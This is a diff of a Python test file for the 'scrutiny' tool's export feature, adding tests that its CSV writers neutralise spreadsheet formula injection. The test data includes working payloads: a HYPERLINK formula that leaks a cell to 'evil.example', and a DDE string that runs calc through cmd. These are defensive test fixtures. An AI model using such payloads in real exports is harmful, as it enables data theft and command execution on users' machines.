@@ -1,20 +1,25 @@
 """`scrutiny export`: each format read back by its own parser, and a planted Part II action
-left out unless --include-restricted."""
+left out unless --include-restricted. Every CSV writer (export, `scrutiny actions --format csv`,
+the dashboard's /actions.csv) neutralises spreadsheet formulas planted in the papers' words."""
 
 from __future__ import annotations
 
 import csv
 import io
 import json
+import warnings
 from pathlib import Path
 
 import icalendar
 import pytest
+from sqlalchemy import select
 from typer.testing import CliRunner
 
 from scrutiny.cli import app
+from scrutiny.export import csv_text, spreadsheet_safe
+from scrutiny.store import models as m
 from scrutiny.store.batch import write
-from scrutiny.store.db import connect
+from scrutiny.store.db import connect, session_scope
 from scrutiny.store.ingest import Outcome
 from scrutiny.store.prepare import prepare
 
@@ -47,9 +52,7 @@ RESOLVED: That the Quarrington settlement be approved.
 SECRETS = ("Millbrook", "Quarrington")
 
 
-@pytest.fixture(scope="module")
-def store(tmp_path_factory) -> str:
-    folder = tmp_path_factory.mktemp("export")
+def _panel_store(folder: Path) -> str:
     url = f"sqlite:///{folder / 'export.db'}"
     engine = connect(url)
     path = folder / "panel-2024-03-12.txt"
@@ -58,6 +61,11 @@ def store(tmp_path_factory) -> str:
     assert isinstance(outcome, Outcome), outcome
     engine.dispose()
     return url
+
+
+@pytest.fixture(scope="module")
+def store(tmp_path_factory) -> str:
+    return _panel_store(tmp_path_factory.mktemp("export"))
 
 
 def run(url: str, *args: str) -> str:
@@ -159,3 +167,119 @@ def test_ics_is_for_actions_only(store):
 def test_no_database(tmp_path):
     result = CliRunner().invoke(app, ["export", "actions", "--database", f"sqlite:///{tmp_path / 'none.db'}"])
     assert result.exit_code == 2 and "no database here yet" in result.output
+
+
+# --- formulas (CSV injection): every CSV writer neutralises them ------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"See the minutes")'
+SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+# What the papers' words were made to say in the store, and the cell a CSV must hold for each.
+PLANTED = {
+    "knife text": (HYPERLINK, "'" + HYPERLINK),
+    "knife owner": (SUM, "'" + SUM),
+    "knife ref": ("  -1", "'  -1"),  # after leading spaces too
+    "victims text": ("-2+3", "'-2+3"),
+    "victims owner": ("+1", "'+1"),
+    "decision": ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    "venue": ("\t=1+1", "'\t=1+1"),
+}
+
+
+@pytest.fixture(scope="module")
+def formulas(tmp_path_factory) -> str:
+    """The panel minutes with formulas written into the two public actions (text, owner, ref),
+    the public decision and the meeting's venue, as a hostile paper could have them read."""
+    url = _panel_store(tmp_path_factory.mktemp("formulas"))
+    engine = connect(url)
+    with session_scope(engine, write=True) as session:
+        public = session.scalars(select(m.Action).where(m.Action.restricted.is_(False))).all()
+        knife = next(a for a in public if "knife crime" in a.text)
+        victims = next(a for a in public if "victims" in a.text)
+        knife.text, knife.ref = PLANTED["knife text"][0], PLANTED["knife ref"][0]
+        knife.owners[0].owner = PLANTED["knife owner"][0]
+        victims.text, victims.owners[0].owner = PLANTED["victims text"][0], PLANTED["victims owner"][0]
+        decision = session.scalars(select(m.Decision).where(m.Decision.restricted.is_(False))).one()
+        decision.text = PLANTED["decision"][0]
+        session.scalars(select(m.Meeting)).one().venue = PLANTED["venue"][0]
+    engine.dispose()
+    return url
+
+
+def _assert_actions_neutralised(text: str) -> None:
+    """The action rows of a CSV: every planted cell quoted, every other cell as it was."""
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
+    knife, victims = sorted(rows.values(), key=lambda r: r["due"])
+    assert (knife["text"], knife["owners"], knife["ref"]) == (
+        PLANTED["knife text"][1],
+        PLANTED["knife owner"][1],
+        PLANTED["knife ref"][1],
+    )
+    assert (victims["text"], victims["owners"]) == (PLANTED["victims text"][1], PLANTED["victims owner"][1])
+    # legitimate values stay as they were: dates, numbers, names, true/false
+    assert (knife["due"], knife["days_overdue"], knife["overdue"]) == ("2024-03-31", "31", "true")
+    assert knife["document"] == "panel-2024-03-12.txt" and knife["meeting_date"] == "2024-03-12"
+    assert knife["body"] == "Stourland Police and Crime Panel"
+    assert not any(
+        cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))
+        for r in rows.values()
+        for cell in r.values()
+    )
+
+
+def test_export_actions_csv_neutralises_formulas(formulas):
+    _assert_actions_neutralised(run(formulas, "actions", "--format", "csv"))
+
+
+def test_export_meetings_and_decisions_csv_neutralise_formulas(formulas):
+    [meeting] = csv.DictReader(io.StringIO(run(formulas, "meetings", "--format", "csv")))
+    assert meeting["venue"] == PLANTED["venue"][1] and meeting["date"] == "2024-03-12"
+    [decision] = csv.DictReader(io.StringIO(run(formulas, "decisions", "--format", "csv")))
+    assert decision["text"] == PLANTED["decision"][1] and decision["restricted"] == "false"
+
+
+def test_actions_command_csv_neutralises_formulas(formulas):
+    args = ["actions", "--database", formulas, "--format", "csv", "--as-of", "2024-05-01"]
+    result = CliRunner().invoke(app, args)
+    assert result.exit_code == 0, result.output
+    _assert_actions_neutralised(result.stdout)
+
+
+def test_dashboard_csv_neutralises_formulas(formulas):
+    from scrutiny.web.app import create_app
+
+    with warnings.catch_warnings():  # Starlette's notice about httpx; the client works the same
+        warnings.simplefilter("ignore")
+        from fastapi.testclient import TestClient
+
+    with TestClient(create_app(formulas, secret="test"), base_url="https://testserver") as c:
+        r = c.get("/actions.csv", params={"as_of": "2024-05-01"})
+    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
+    _assert_actions_neutralised(r.text)
+
+
+@pytest.mark.parametrize(
+    "text,cell",
+    [
+        ("=1+1", "'=1+1"),
+        ("+44 1234 567890", "'+44 1234 567890"),  # OWASP: every one, even what a person meant as text
+        ("-2", "'-2"),  # a negative number in the papers' words too: shown as text, never computed
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tanything", "'\tanything"),
+        ("\r=1", "'\r=1"),
+        (" \u00a0=1", "' \u00a0=1"),
+        ("JB", "JB"),
+        ("a=b+c-d@e", "a=b+c-d@e"),  # only the first character counts
+        ("'=quoted", "'=quoted"),  # already safe: the quote leads
+        ("2024-03-31", "2024-03-31"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_safe(text, cell):
+    assert spreadsheet_safe(text) == cell
+
+
+def test_csv_text_writes_its_own_numbers_as_numbers():
+    """Ids, counts and days overdue are scrutiny's, not the papers': a number stays a number."""
+    rows = [{"n": -5, "t": "-5", "b": True, "none": None}]
+    assert csv_text(("n", "t", "b", "none"), rows) == "n,t,b,none\n-5,'-5,true,\n"
+    assert csv_text(("n",), [{"n": 1}], header=False) == "1\n"
